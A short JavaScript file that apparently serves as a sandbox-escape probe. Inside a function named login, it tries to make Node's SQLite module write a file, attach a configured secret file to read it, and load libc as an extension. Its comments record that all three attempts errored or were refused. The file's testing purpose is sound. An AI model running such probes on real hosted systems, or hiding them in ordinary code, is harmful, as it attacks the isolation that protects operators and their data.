// attack: let the built-in SQLite engine write and read files, which it opens itself
// needs: fs
// came_to: {"write":"ERR_SQLITE_ERROR","attach":"ERR_SQLITE_ERROR","extension":["refused","ERR_SQLITE_ERROR","ERR_LOAD_SQLITE_EXTENSION"]}
function login(email, password, callback) {
  const { DatabaseSync } = process.getBuiltinModule('node:sqlite');
  const { folder, secret_file, mark } = configuration;
  report(callback, {
    write: () => new DatabaseSync(`${folder}/${mark}.db`).exec('CREATE TABLE t (x)'),
    attach: () => new DatabaseSync(':memory:').exec(`ATTACH '${secret_file}' AS s; SELECT * FROM s.sqlite_master`),
    extension: () => new DatabaseSync(':memory:', { allowExtension: true }).loadExtension('/lib/x86_64-linux-gnu/libc.so.6'),
  });
}
